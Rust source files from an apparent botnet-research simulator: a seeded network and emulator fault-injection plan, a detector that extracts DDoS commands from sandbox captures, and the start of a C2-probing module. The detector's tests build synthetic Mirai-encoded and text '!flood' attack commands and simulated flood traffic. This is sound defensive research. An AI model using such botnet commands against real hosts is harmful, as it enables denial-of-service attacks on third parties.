/// Sub-seed domain for link latency jitter (per day, link). The world
/// network's link coordinate is [`WORLD_LINK_ID`]; contained networks
/// use their sample id.
const DOMAIN_LINK_JITTER: u64 = 0xc4a0_0000_0000_0006;
/// Sub-seed domain for the emulator's per-sample syscall-fault stream
/// (per day, sample): the derived seed feeds every short-I/O / `EINTR` /
/// `ENOMEM` decision the sandbox makes at the syscall boundary.
const DOMAIN_EMU_SYSCALL: u64 = 0xc4a0_0000_0000_0007;
/// Sub-seed domain for the per-sample fd-cap reduction draw (per day,
/// sample): whether this run gets a tightened fd table, and how tight.
const DOMAIN_EMU_FDCAP: u64 = 0xc4a0_0000_0000_0008;

/// Link coordinate of the shared world network in the
/// [`DOMAIN_LINK_JITTER`] stream (contained links use the sample id, so
/// the world link gets a coordinate no sample can collide with).
const WORLD_LINK_ID: u64 = u64::MAX;

/// A declarative, seeded fault plan.
///
/// Rates are probabilities in `[0, 1]`; a rate of zero disables its
/// fault family without consuming randomness. All decision methods are
/// pure functions of `(fault_seed, day, coordinate)` — see the module
/// docs for the determinism contract.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultPlan {
    /// Master seed every fault decision derives from.
    pub fault_seed: u64,
    /// Packet-loss probability on the shared world network.
    pub world_loss: f64,
    /// Payload-corruption probability on the shared world network.
    pub world_corrupt: f64,
    /// Packet-loss probability on per-sample contained networks.
    pub contained_loss: f64,
    /// Payload-corruption probability on per-sample contained networks.
    pub contained_corrupt: f64,
    /// Probability a DNS query is silently dropped.
    pub dns_drop: f64,
    /// Probability a DNS query is answered SERVFAIL.
    pub dns_servfail: f64,
    /// Probability a DNS query is answered NXDOMAIN.
    pub dns_nxdomain: f64,
    /// Probability a live C2 host gets a scheduled downtime window on a
    /// given day.
    pub c2_downtime_rate: f64,
    /// `[min, max]` length in seconds of an injected downtime window.
    pub c2_downtime_secs: (u64, u64),
    /// Probability a sample's binary is truncated before analysis.
    pub truncate_rate: f64,
    /// Probability a sample's binary has one bit flipped before
    /// analysis (evaluated only if truncation did not fire).
    pub bitflip_rate: f64,
    /// Probability a sample's phase-A worker panics outright.
    pub panic_rate: f64,
    /// Probability a link (the shared world network per day, or one
    /// sample's contained network) gets its latency jitter re-rolled:
    /// a widened jitter window plus a per-link `jitter_seed` that
    /// reshuffles the deterministic per-pair delivery pattern.
    pub link_jitter_rate: f64,
    /// `[min, max]` extra jitter in milliseconds added on top of the
    /// default jitter window when the `link_jitter` fault fires.
    pub link_jitter_ms: (u64, u64),
    /// Probability a contained run's `read`/`recv`/`send` is cut short
    /// (partial-count return) at any given syscall.
    pub emu_short_rate: f64,
    /// Probability a contained run's blocking call
    /// (`read`/`recv`/`accept`/`nanosleep`) returns `EINTR`.
    pub emu_eintr_rate: f64,
    /// Probability an allocation-backed syscall (`socket`) returns
    /// `ENOMEM` in a contained run.
    pub emu_enomem_rate: f64,
    /// Probability a contained run gets a reduced per-process fd cap
    /// (so `socket` hits `EMFILE` early).
    pub emu_fd_cap_rate: f64,
    /// `[min, max]` reduced fd cap drawn when the fd-cap fault fires.
    pub emu_fd_cap: (u32, u32),
}

impl Default for FaultPlan {
    fn default() -> Self {
        FaultPlan::none()
    }
}

impl FaultPlan {
    /// The empty plan: every rate zero, nothing perturbed, no RNG drawn.
    pub const fn none() -> Self {
        FaultPlan {
            fault_seed: 0,
            world_loss: 0.0,
            world_corrupt: 0.0,
            contained_loss: 0.0,
            contained_corrupt: 0.0,
            dns_drop: 0.0,
            dns_servfail: 0.0,
            dns_nxdomain: 0.0,
            c2_downtime_rate: 0.0,
            c2_downtime_secs: (0, 0),
            truncate_rate: 0.0,
            bitflip_rate: 0.0,
            panic_rate: 0.0,
            link_jitter_rate: 0.0,
            link_jitter_ms: (0, 0),
            emu_short_rate: 0.0,
            emu_eintr_rate: 0.0,
            emu_enomem_rate: 0.0,
            emu_fd_cap_rate: 0.0,
            emu_fd_cap: (0, 0),
        }
    }

    /// The standard chaos preset used by the differential tests and the
    /// `chaos_run` bench bin: every fault family active at rates high
    /// enough to fire in a small test world, low enough that the study
    /// still produces data.
    pub const fn chaos(fault_seed: u64) -> Self {
        FaultPlan {
            fault_seed,
            world_loss: 0.02,
            world_corrupt: 0.01,
            contained_loss: 0.03,
            contained_corrupt: 0.01,
            dns_drop: 0.05,
            dns_servfail: 0.05,
            dns_nxdomain: 0.03,
            c2_downtime_rate: 0.15,
            c2_downtime_secs: (120, 3600),
            truncate_rate: 0.06,
            bitflip_rate: 0.06,
            panic_rate: 0.05,
            link_jitter_rate: 0.35,
            link_jitter_ms: (10, 150),
            emu_short_rate: 0.05,
            emu_eintr_rate: 0.05,
            emu_enomem_rate: 0.02,
            emu_fd_cap_rate: 0.1,
            emu_fd_cap: (8, 32),
        }
    }

    /// An emulator-only plan for the `chaos_sweep` degradation-frontier
    /// harness: every world-side family off, the four syscall-boundary
    /// families scaled linearly by `intensity` (clamped to `[0, 1]`).
    /// Intensity `0.0` is exactly `FaultPlan::none()` with the seed set,
    /// so the zero cell of a sweep is provably chaos-free.
    pub fn emu_sweep(fault_seed: u64, intensity: f64) -> Self {
        let x = intensity.clamp(0.0, 1.0);
        if x == 0.0 {
            return FaultPlan {
                fault_seed,
                ..FaultPlan::none()
            };
        }
        FaultPlan {
            fault_seed,
            emu_short_rate: 0.30 * x,
            emu_eintr_rate: 0.30 * x,
            emu_enomem_rate: 0.10 * x,
            emu_fd_cap_rate: 0.50 * x,
            emu_fd_cap: (4, 24),
            ..FaultPlan::none()
        }
    }

    /// Is this the empty plan? (Every fault family disabled.)
    pub fn is_none(&self) -> bool {
        self.world_loss == 0.0
            && self.world_corrupt == 0.0
            && self.contained_loss == 0.0
            && self.contained_corrupt == 0.0
            && self.dns_drop == 0.0
            && self.dns_servfail == 0.0
            && self.dns_nxdomain == 0.0
            && self.c2_downtime_rate == 0.0
            && self.truncate_rate == 0.0
            && self.bitflip_rate == 0.0
            && self.panic_rate == 0.0
            && self.link_jitter_rate == 0.0
            && self.emu_short_rate == 0.0
            && self.emu_eintr_rate == 0.0
            && self.emu_enomem_rate == 0.0
            && self.emu_fd_cap_rate == 0.0
    }

    fn rng(&self, domain: u64, day: u32, id: u64) -> StdRng {
        StdRng::seed_from_u64(sub_seed(self.fault_seed ^ domain, day, id))
    }

    /// Per-day jitter in `[0.5, 1.5)` applied to a base rate, so fault
    /// pressure varies day to day (good days and bad days, like a real
    /// vantage point) while staying fully determined by the plan.
    fn day_scale(rng: &mut StdRng) -> f64 {
        0.5 + rng.gen_range(0.0..1.0)
    }

    /// Link faults for the shared world network on `day`.
    pub fn world_link(&self, day: u32) -> LinkFaults {
        let mut link = if self.world_loss == 0.0 && self.world_corrupt == 0.0 {
            LinkFaults::default()
        } else {
            let mut rng = self.rng(DOMAIN_WORLD_LINK, day, 0);
            let scale = Self::day_scale(&mut rng);
            LinkFaults {
                loss: (self.world_loss * scale).min(1.0),
                corrupt: (self.world_corrupt * scale).min(1.0),
                ..LinkFaults::default()
            }
        };
        self.apply_link_jitter(&mut link, day, WORLD_LINK_ID);
        link
    }

    /// Link faults for one sample's contained network on `day`.
    pub fn contained_link(&self, day: u32, sample_id: usize) -> LinkFaults {
        let mut link = if self.contained_loss == 0.0 && self.contained_corrupt == 0.0 {
            LinkFaults::default()
        } else {
            let mut rng = self.rng(DOMAIN_CONTAINED_LINK, day, sample_id as u64);
            let scale = Self::day_scale(&mut rng);
            LinkFaults {
                loss: (self.contained_loss * scale).min(1.0),
                corrupt: (self.contained_corrupt * scale).min(1.0),
                ..LinkFaults::default()
            }
        };
        self.apply_link_jitter(&mut link, day, sample_id as u64);
        link
    }

    /// Maybe re-roll a link's latency jitter: widen the jitter window by
    /// a drawn amount and install a per-link `jitter_seed`, both pure
    /// functions of `(fault_seed, day, link_id)`. A zero
    /// `link_jitter_rate` draws nothing and leaves the link untouched,
    /// so jitter-free plans stay byte-invisible.
    fn apply_link_jitter(&self, link: &mut LinkFaults, day: u32, link_id: u64) {
        if self.link_jitter_rate == 0.0 {
            return;
        }
        let mut rng = self.rng(DOMAIN_LINK_JITTER, day, link_id);
        if !rng.gen_bool(self.link_jitter_rate) {
            return;
        }
        let (lo, hi) = self.link_jitter_ms;
        let extra_ms = if hi > lo {
            rng.gen_range(lo..=hi)
        } else {
            lo.max(1)
        };
        link.jitter = link.jitter + malnet_netsim::time::SimDuration::from_millis(extra_ms);
        // Non-zero by construction so a fired fault always reshuffles
        // the per-pair pattern (seed 0 means "legacy pattern").
        link.jitter_seed = rng.gen::<u64>() | 1;
    }

    /// DNS failure-injection policy for the world resolver on `day`.
    pub fn dns_faults(&self, day: u32) -> DnsFaults {
        if self.dns_drop == 0.0 && self.dns_servfail == 0.0 && self.dns_nxdomain == 0.0 {
            return DnsFaults::default();
        }
        let mut rng = self.rng(DOMAIN_WORLD_LINK, day, 1);
        let scale = Self::day_scale(&mut rng);
        DnsFaults {
            drop_rate: (self.dns_drop * scale).min(1.0),
            servfail_rate: (self.dns_servfail * scale).min(1.0),
            nxdomain_rate: (self.dns_nxdomain * scale).min(1.0),
        }
    }

    /// Should host `ip` get a downtime window on `day`? Returns the
    /// window as `(start_secs_into_day, duration_secs)`.
    pub fn downtime_window(&self, day: u32, ip: std::net::Ipv4Addr) -> Option<(u64, u64)> {
        if self.c2_downtime_rate == 0.0 {
            return None;
        }
        let mut rng = self.rng(DOMAIN_DOWNTIME, day, u64::from(u32::from(ip)));
        if !rng.gen_bool(self.c2_downtime_rate) {
            return None;
        }
        let (lo, hi) = self.c2_downtime_secs;
        let dur = if hi > lo {
            rng.gen_range(lo..=hi)
        } else {
            lo.max(1)
        };
        // Start somewhere inside the pipeline's active hours for the
        // day: liveness sweeps run first, restricted sessions can run
        // for a couple of simulated hours after.
        let start = rng.gen_range(0u64..7_200);
        Some((start, dur))
    }

    /// Maybe mutate a sample's binary before analysis. Returns the
    /// mutated bytes plus a human-readable fault-context string, or
    /// `None` to analyze the binary untouched.
    pub fn mutate_binary(
        &self,
        day: u32,
        sample_id: usize,
        elf: &[u8],
    ) -> Option<(Vec<u8>, String)> {
        if (self.truncate_rate == 0.0 && self.bitflip_rate == 0.0) || elf.is_empty() {
            return None;
        }
        let mut rng = self.rng(DOMAIN_BINARY, day, sample_id as u64);
        if self.truncate_rate > 0.0 && rng.gen_bool(self.truncate_rate) {
            let keep = rng.gen_range(1..=elf.len());
            let mut bytes = elf.to_vec();
            bytes.truncate(keep);
            return Some((
                bytes,
                format!("binary truncated {} -> {keep} bytes", elf.len()),
            ));
        }
        if self.bitflip_rate > 0.0 && rng.gen_bool(self.bitflip_rate) {
            let pos = rng.gen_range(0..elf.len());
            let bit = rng.gen_range(0u32..8);
            let mut bytes = elf.to_vec();
            bytes[pos] ^= 1 << bit;
            return Some((bytes, format!("binary bit-flipped @{pos}.{bit}")));
        }
        None
    }

    /// Should the phase-A worker for `(day, sample_id)` panic outright?
    /// Models the in-process crashes a real analysis harness has to
    /// contain (emulator bugs, resource exhaustion).
    pub fn forced_panic(&self, day: u32, sample_id: usize) -> bool {
        if self.panic_rate == 0.0 {
            return false;
        }
        let mut rng = self.rng(DOMAIN_PANIC, day, sample_id as u64);
        rng.gen_bool(self.panic_rate)
    }

    /// The emulator fault sub-plan for `(day, sample_id)`'s contained
    /// run. With all four emulator rates at zero this returns
    /// [`EmuFaults::none`] without drawing RNG; otherwise the rates get
    /// the same per-day `[0.5, 1.5)` pressure scaling as the other fault
    /// families, and the fd-cap reduction (its own sub-seed domain, so it
    /// never perturbs the syscall-decision stream) is drawn from
    /// `emu_fd_cap`.
    pub fn emu_faults(&self, day: u32, sample_id: usize) -> EmuFaults {
        if self.emu_short_rate == 0.0
            && self.emu_eintr_rate == 0.0
            && self.emu_enomem_rate == 0.0
            && self.emu_fd_cap_rate == 0.0
        {
            return EmuFaults::none();
        }
        let mut rng = self.rng(DOMAIN_EMU_SYSCALL, day, sample_id as u64);
        let scale = Self::day_scale(&mut rng);
        let fd_cap = if self.emu_fd_cap_rate == 0.0 {
            None
        } else {
            let mut cap_rng = self.rng(DOMAIN_EMU_FDCAP, day, sample_id as u64);
            if cap_rng.gen_bool(self.emu_fd_cap_rate.min(1.0)) {
                let (lo, hi) = self.emu_fd_cap;
                let lo = lo.max(1);
                Some(if hi > lo {
                    cap_rng.gen_range(lo..=hi)
                } else {
                    lo
                })
            } else {
                None
            }
        };
        EmuFaults {
            seed: sub_seed(self.fault_seed ^ DOMAIN_EMU_SYSCALL, day, sample_id as u64),
            short_rate: (self.emu_short_rate * scale).min(1.0),
            eintr_rate: (self.emu_eintr_rate * scale).min(1.0),
            enomem_rate: (self.emu_enomem_rate * scale).min(1.0),
            fd_cap,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    #[test]
    fn none_plan_is_inert() {
        let p = FaultPlan::none();
        assert!(p.is_none());
        assert_eq!(p.world_link(3), LinkFaults::default());
        assert_eq!(p.contained_link(3, 9), LinkFaults::default());
        assert_eq!(p.dns_faults(3), DnsFaults::default());
        assert_eq!(p.downtime_window(3, Ipv4Addr::new(1, 2, 3, 4)), None);
        assert_eq!(p.mutate_binary(3, 9, b"\x7fELF"), None);
        assert!(!p.forced_panic(3, 9));
        assert!(p.emu_faults(3, 9).is_none());
        assert_eq!(FaultPlan::default(), p);
    }

    #[test]
    fn decisions_are_pure_functions_of_coordinates() {
        let p = FaultPlan::chaos(42);
        assert!(!p.is_none());
        for day in 0..20 {
            for id in 0..20usize {
                let ip = Ipv4Addr::new(10, 0, 0, id as u8);
                assert_eq!(p.world_link(day), p.world_link(day));
                assert_eq!(p.contained_link(day, id), p.contained_link(day, id));
                assert_eq!(p.dns_faults(day), p.dns_faults(day));
                assert_eq!(p.downtime_window(day, ip), p.downtime_window(day, ip));
                assert_eq!(
                    p.mutate_binary(day, id, b"some elf bytes"),
                    p.mutate_binary(day, id, b"some elf bytes")
                );
                assert_eq!(p.forced_panic(day, id), p.forced_panic(day, id));
                assert_eq!(p.emu_faults(day, id), p.emu_faults(day, id));
            }
        }
    }

    #[test]
    fn chaos_preset_fires_every_fault_family() {
        let p = FaultPlan::chaos(7);
        let days = 0..40u32;
        assert!(days.clone().any(|d| p.world_link(d).loss > 0.0));
        assert!(days.clone().any(|d| p.dns_faults(d).any()));
        let mut windows = 0;
        let mut mutations = 0;
        let mut panics = 0;
        for d in days {
            for id in 0..40usize {
                let ip = Ipv4Addr::new(172, 16, id as u8, 1);
                if p.downtime_window(d, ip).is_some() {
                    windows += 1;
                }
                if p.mutate_binary(d, id, &[0u8; 64]).is_some() {
                    mutations += 1;
                }
                if p.forced_panic(d, id) {
                    panics += 1;
                }
            }
        }
        assert!(windows > 0, "no downtime windows over 1600 trials");
        assert!(mutations > 0, "no binary mutations over 1600 trials");
        assert!(panics > 0, "no forced panics over 1600 trials");
        // Latency jitter fires too, on both the world link and contained
        // links, with a widened window and a reshuffling seed.
        let world_jittered = (0..40u32).filter(|&d| {
            let l = p.world_link(d);
            l.jitter_seed != 0 && l.jitter > LinkFaults::default().jitter
        });
        assert!(
            world_jittered.count() > 0,
            "no world link_jitter over 40 days"
        );
        let contained_jittered = (0..40u32)
            .flat_map(|d| (0..40usize).map(move |id| (d, id)))
            .filter(|&(d, id)| p.contained_link(d, id).jitter_seed != 0);
        assert!(
            contained_jittered.count() > 0,
            "no contained link_jitter over 1600 trials"
        );
        // The emulator family is live too: every run gets a non-inert
        // sub-plan, and the fd-cap reduction fires for some of them
        // within the configured bounds.
        let mut caps = 0;
        for d in 0..40u32 {
            for id in 0..40usize {
                let f = p.emu_faults(d, id);
                assert!(!f.is_none());
                assert!(f.short_rate > 0.0 && f.eintr_rate > 0.0 && f.enomem_rate > 0.0);
                if let Some(cap) = f.fd_cap {
                    assert!((8..=32).contains(&cap), "fd cap {cap} out of bounds");
                    caps += 1;
                }
            }
        }
        assert!(caps > 0, "no fd-cap reductions over 1600 trials");
    }

    /// `emu_sweep` spans the degradation frontier: intensity 0 is the
    /// empty plan (so a sweep's zero cell is provably chaos-free), and
    /// positive intensities scale only the emulator families.
    #[test]
    fn emu_sweep_scales_from_none() {
        let zero = FaultPlan::emu_sweep(99, 0.0);
        assert!(zero.is_none());
        assert_eq!(zero.fault_seed, 99);
        assert!(zero.emu_faults(5, 3).is_none());

        let half = FaultPlan::emu_sweep(99, 0.5);
        assert!(!half.is_none());
        assert_eq!(half.world_loss, 0.0);
        assert_eq!(half.panic_rate, 0.0);
        assert_eq!(half.truncate_rate, 0.0);
        let full = FaultPlan::emu_sweep(99, 1.0);
        assert!(full.emu_short_rate > half.emu_short_rate);
        // Clamped above 1.0.
        assert_eq!(FaultPlan::emu_sweep(99, 7.0), full);
        // Every run under a positive intensity has a live sub-plan whose
        // seed varies by coordinate.
        let a = half.emu_faults(2, 1);
        let b = half.emu_faults(2, 2);
        assert!(!a.is_none() && !b.is_none());
        assert_ne!(a.seed, b.seed);
    }

    /// A plan with loss/corruption but `link_jitter_rate` 0 must leave
    /// the latency model at its defaults (jitter window and seed): the
    /// jitter fault domain draws nothing when disabled.
    #[test]
    fn jitter_free_plans_do_not_touch_latency() {
        let p = FaultPlan {
            link_jitter_rate: 0.0,
            ..FaultPlan::chaos(19)
        };
        for d in 0..30u32 {
            let w = p.world_link(d);
            assert_eq!(w.jitter, LinkFaults::default().jitter);
            assert_eq!(w.jitter_seed, 0);
            for id in 0..10usize {
                let c = p.contained_link(d, id);
                assert_eq!(c.jitter, LinkFaults::default().jitter);
                assert_eq!(c.jitter_seed, 0);
            }
        }
        // And the jitter knob alone makes a plan non-empty.
        let only_jitter = FaultPlan {
            link_jitter_rate: 0.5,
            link_jitter_ms: (10, 20),
            ..FaultPlan::none()
        };
        assert!(!only_jitter.is_none());
    }

    #[test]
    fn downtime_windows_respect_bounds() {
        let p = FaultPlan::chaos(3);
        for d in 0..60 {
            for h in 0..30u8 {
                let ip = Ipv4Addr::new(10, 1, h, 2);
                if let Some((start, dur)) = p.downtime_window(d, ip) {
                    assert!(start < 7_200);
                    assert!((120..=3_600).contains(&dur));
                }
            }
        }
    }

    #[test]
    fn mutations_change_but_bound_the_bytes() {
        let p = FaultPlan::chaos(11);
        let elf = vec![0xabu8; 256];
        for d in 0..60 {
            for id in 0..30usize {
                if let Some((bytes, desc)) = p.mutate_binary(d, id, &elf) {
                    assert!(!bytes.is_empty());
                    assert!(bytes.len() <= elf.len());
                    assert_ne!(bytes, elf);
                    assert!(desc.contains("truncated") || desc.contains("bit-flipped"));
                }
            }
        }
    }

    #[test]
    fn different_fault_seeds_give_different_plans() {
        let a = FaultPlan::chaos(1);
        let b = FaultPlan::chaos(2);
        let differs = (0..40).any(|d| a.world_link(d) != b.world_link(d));
        assert!(
            differs,
            "fault seeds 1 and 2 produced identical link schedules"
        );
    }
}
