//! DDoS command extraction from restricted-mode session captures
//! (paper §2.5).
//!
//! Two detectors run over the pcap:
//!
//! * **Profiler** (method a): reassemble the C2→bot TCP byte stream and
//!   decode it with the family's protocol profile (Mirai binary, Gafgyt
//!   and Daddyl33t text).
//! * **Behavioural heuristic** (method b): measure the packet rate toward
//!   non-C2 destinations per second; when it exceeds a threshold
//!   (default 100 pps), attribute the flood to the most recent C2→bot
//!   payload and recover the target from the traffic itself.
//!
//! Both detections are then **verified** (§2.5: "we verify the command by
//! evaluating whether the bot started to send traffic to that given DDoS
//! target continuously"): a profiler command must be followed by actual
//! flood traffic to the commanded target; a behavioural hit must find the
//! target's bytes in the last command payload.

use std::collections::{BTreeMap, HashMap};
use std::net::Ipv4Addr;

use malnet_protocols::profiler::C2Profiler;
use malnet_protocols::{AttackCommand, Family};
use malnet_wire::packet::{Packet, Transport};

use crate::datasets::DdosDetection;

/// Default behavioural threshold: packets/second toward non-C2 hosts.
pub const DEFAULT_PPS_THRESHOLD: u64 = 100;

/// One extracted and verified command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExtractedCommand {
    /// The decoded command.
    pub command: AttackCommand,
    /// How it was found.
    pub detection: DdosDetection,
    /// Verified against the traffic?
    pub verified: bool,
    /// Peak observed packets/second toward the target.
    pub measured_pps: u64,
    /// Microsecond timestamp of the command payload.
    pub ts_micros: u64,
}

/// Extract commands from a session capture.
///
/// `c2_ip` is the (already attributed) C2 address of this session;
/// `bot_ip` the sandboxed device; `family` the sample's label (profilers
/// exist for Mirai/Gafgyt/Daddyl33t only, as in the paper).
pub fn extract(
    packets: &[(u64, Packet)],
    bot_ip: Ipv4Addr,
    c2_ip: Ipv4Addr,
    family: Option<Family>,
    pps_threshold: u64,
) -> Vec<ExtractedCommand> {
    // --- reassemble C2→bot payload stream, keeping per-chunk timestamps ---
    let mut c2_chunks: Vec<(u64, Vec<u8>)> = Vec::new();
    for (ts, p) in packets {
        if p.src == c2_ip && p.dst == bot_ip {
            if let Transport::Tcp { payload, .. } = &p.transport {
                if !payload.is_empty() {
                    c2_chunks.push((*ts, payload.clone()));
                }
            }
        }
    }

    // --- per-second, per-destination packet rates (non-C2 traffic) ---
    let mut per_sec: BTreeMap<(u64, Ipv4Addr), u64> = BTreeMap::new();
    for (ts, p) in packets {
        if p.src == bot_ip && p.dst != c2_ip {
            *per_sec.entry((ts / 1_000_000, p.dst)).or_insert(0) += 1;
        }
    }
    // Lookup-only (read per command target, never iterated). lint: hash-ok
    let mut peak_pps: HashMap<Ipv4Addr, u64> = HashMap::new();
    for ((_, dst), n) in &per_sec {
        let e = peak_pps.entry(*dst).or_insert(0);
        *e = (*e).max(*n);
    }

    let mut out: Vec<ExtractedCommand> = Vec::new();

    // --- method (a): protocol profiler ---
    if let Some(fam) = family {
        if fam.has_ddos_profile() {
            let profiler = C2Profiler::new(fam);
            for (ts, chunk) in &c2_chunks {
                for command in profiler.extract_commands(chunk) {
                    // Verification: continuous traffic toward the target
                    // after the command.
                    let flood_after = packets
                        .iter()
                        .any(|(t2, p)| t2 > ts && p.src == bot_ip && p.dst == command.target);
                    let pps = peak_pps.get(&command.target).copied().unwrap_or(0);
                    out.push(ExtractedCommand {
                        command,
                        detection: DdosDetection::Profiler,
                        verified: flood_after,
                        measured_pps: pps,
                        ts_micros: *ts,
                    });
                }
            }
        }
    }

    // --- method (b): behavioural heuristic ---
    for ((sec, dst), _) in per_sec
        .iter()
        .filter(|((_, _), n)| **n >= pps_threshold)
        .take(1024)
    {
        // Already covered by the profiler?
        if let Some(e) = out.iter_mut().find(|e| e.command.target == *dst) {
            if e.detection == DdosDetection::Profiler {
                e.detection = DdosDetection::Both;
            }
            continue;
        }
        // Find the last C2 payload before the flood second.
        let flood_ts = sec * 1_000_000;
        let last_cmd = c2_chunks
            .iter()
            .rev()
            .find(|(ts, _)| *ts <= flood_ts)
            .cloned();
        let Some((cmd_ts, payload)) = last_cmd else {
            continue;
        };
        // Verification: the target must appear (ASCII dotted or raw
        // big-endian bytes) in that payload.
        let ascii = dst.to_string();
        let raw = dst.octets();
        let mentions = contains(&payload, ascii.as_bytes()) || contains(&payload, &raw);
        // Characterise the flood from the wire to synthesize the command
        // (type recovery from traffic shape).
        let (method, port, dur) = characterize_flood(packets, bot_ip, *dst);
        out.push(ExtractedCommand {
            command: AttackCommand {
                method,
                target: *dst,
                port,
                duration_secs: dur,
            },
            detection: DdosDetection::Behavioral,
            verified: mentions,
            measured_pps: peak_pps.get(dst).copied().unwrap_or(0),
            ts_micros: cmd_ts,
        });
    }

    // Deduplicate repeated keepalive-window decodes of one command.
    out.sort_by_key(|e| (e.ts_micros, e.command.target, e.command.port));
    out.dedup_by(|a, b| a.command == b.command && a.ts_micros == b.ts_micros);
    out
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

/// Infer attack type from the flood traffic itself (used when only the
/// behavioural detector fires, e.g. unknown families).
fn characterize_flood(
    packets: &[(u64, Packet)],
    bot_ip: Ipv4Addr,
    target: Ipv4Addr,
) -> (malnet_protocols::AttackMethod, u16, u32) {
    use malnet_protocols::AttackMethod;
    let mut first: Option<u64> = None;
    let mut last: Option<u64> = None;
    let mut syn = 0u64;
    let mut udp = 0u64;
    let mut icmp = 0u64;
    let mut port = 0u16;
    for (ts, p) in packets {
        if p.src != bot_ip || p.dst != target {
            continue;
        }
        first.get_or_insert(*ts);
        last = Some(*ts);
        match &p.transport {
            Transport::Tcp { header, .. } => {
                if header.flags.syn() && !header.flags.ack() {
                    syn += 1;
                }
                port = header.dst_port;
            }
            Transport::Udp { header, .. } => {
                udp += 1;
                port = header.dst_port;
            }
            Transport::Icmp(_) => icmp += 1,
        }
    }
    let dur = match (first, last) {
        (Some(a), Some(b)) => ((b - a) / 1_000_000) as u32 + 1,
        _ => 0,
    };
    let method = if icmp > syn && icmp > udp {
        AttackMethod::Blacknurse
    } else if syn > udp {
        AttackMethod::SynFlood
    } else {
        AttackMethod::UdpFlood
    };
    (
        method,
        if method == AttackMethod::Blacknurse {
            0
        } else {
            port
        },
        dur,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_protocols::{mirai, AttackMethod};
    use malnet_wire::tcp::TcpFlags;

    const BOT: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);
    const C2: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 5);
    const TGT: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 9);

    fn cmd() -> AttackCommand {
        AttackCommand {
            method: AttackMethod::UdpFlood,
            target: TGT,
            port: 80,
            duration_secs: 5,
        }
    }

    /// A synthetic session: command from C2 at t=1s, flood at 150 pps
    /// for 3 seconds.
    fn session(flood: bool, encode_cmd: bool) -> Vec<(u64, Packet)> {
        let mut pkts = Vec::new();
        if encode_cmd {
            let bytes = mirai::encode_command(&cmd()).unwrap();
            pkts.push((
                1_000_000,
                Packet::tcp(C2, 23, BOT, 40000, 1, 1, TcpFlags::PSH_ACK, bytes),
            ));
        }
        if flood {
            for s in 2..5u64 {
                for k in 0..150u64 {
                    pkts.push((
                        s * 1_000_000 + k * 6000,
                        Packet::udp(BOT, 4444, TGT, 80, vec![0]),
                    ));
                }
            }
        }
        pkts
    }

    #[test]
    fn profiler_and_heuristic_agree() {
        let pkts = session(true, true);
        let cmds = extract(&pkts, BOT, C2, Some(Family::Mirai), 100);
        assert_eq!(cmds.len(), 1, "{cmds:?}");
        let e = &cmds[0];
        assert_eq!(e.command, cmd());
        assert_eq!(e.detection, DdosDetection::Both);
        assert!(e.verified);
        assert!(e.measured_pps >= 100);
    }

    #[test]
    fn profiler_without_flood_is_unverified() {
        let pkts = session(false, true);
        let cmds = extract(&pkts, BOT, C2, Some(Family::Mirai), 100);
        assert_eq!(cmds.len(), 1);
        assert!(!cmds[0].verified);
        assert_eq!(cmds[0].detection, DdosDetection::Profiler);
    }

    #[test]
    fn heuristic_only_for_unknown_family() {
        // Tsunami has no profiler; only the behavioural detector fires.
        let mut pkts = session(true, false);
        // Unparseable "command" mentioning the target in ASCII.
        pkts.insert(
            0,
            Packet::tcp(
                C2,
                23,
                BOT,
                40000,
                1,
                1,
                TcpFlags::PSH_ACK,
                format!("!flood {TGT} 80").into_bytes(),
            )
            .pipe_ts(900_000),
        );
        let cmds = extract(&pkts, BOT, C2, Some(Family::Tsunami), 100);
        assert_eq!(cmds.len(), 1, "{cmds:?}");
        assert_eq!(cmds[0].detection, DdosDetection::Behavioral);
        assert!(cmds[0].verified, "ASCII target in command payload");
        assert_eq!(cmds[0].command.method, AttackMethod::UdpFlood);
        assert_eq!(cmds[0].command.port, 80);
    }

    #[test]
    fn below_threshold_flood_is_ignored() {
        let mut pkts = Vec::new();
        for s in 0..3u64 {
            for k in 0..50u64 {
                pkts.push((
                    s * 1_000_000 + k * 20000,
                    Packet::udp(BOT, 4444, TGT, 80, vec![0]),
                ));
            }
        }
        let cmds = extract(&pkts, BOT, C2, None, 100);
        assert!(cmds.is_empty());
    }

    #[test]
    fn threshold_is_tunable() {
        let pkts = session(true, false);
        assert!(extract(&pkts, BOT, C2, None, 500).is_empty());
        // Without any C2 payload there is nothing to attribute, so even
        // above threshold nothing is reported.
        assert!(extract(&pkts, BOT, C2, None, 100).is_empty());
    }

    trait PipeTs {
        fn pipe_ts(self, ts: u64) -> (u64, Packet);
    }
    impl PipeTs for Packet {
        fn pipe_ts(self, ts: u64) -> (u64, Packet) {
            (ts, self)
        }
    }
}
