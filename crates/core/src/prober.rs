//! The D-PC2 active-probing study (paper §2.3b).
//!
//! Every 4 hours for two weeks, the prober sweeps 6 suspicious /24
//! subnets across the 12 historical ports of Table 5:
//!
//! 1. **Listener discovery** — plain TCP SYN probes ("we do not send
//!    probes if the host does not listen on a port").
//! 2. **Banner filtering** — listeners that greet with a well-known
//!    banner (Apache, nginx) are dropped.
//! 3. **Weaponized engagement** — a real malware binary, MITM-redirected
//!    at the candidate (CnCHunter mode 2), performs the C2 "call-home";
//!    a server that answers the protocol login counts as a responding C2.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use malnet_botgen::world::World;
use malnet_netsim::asdb::Prefix;
use malnet_netsim::stack::SockEvent;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_prng::sub_seed;
use malnet_sandbox::{AnalysisMode, Sandbox, SandboxConfig};
use malnet_telemetry::{Field as EventField, SpanCtx, Telemetry};
use malnet_wire::packet::Transport;

use crate::datasets::ProbedC2;

/// The prober's own vantage address.
pub const PROBER_IP: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 9);

/// [`sub_seed`] domain for a round's detached probing network.
const DOMAIN_ROUND_NET: u64 = 0x5eed_0000_0000_0004;
/// [`sub_seed`] domain for a round's weaponized-engagement sandboxes.
const DOMAIN_ENGAGE: u64 = 0x5eed_0000_0000_0005;

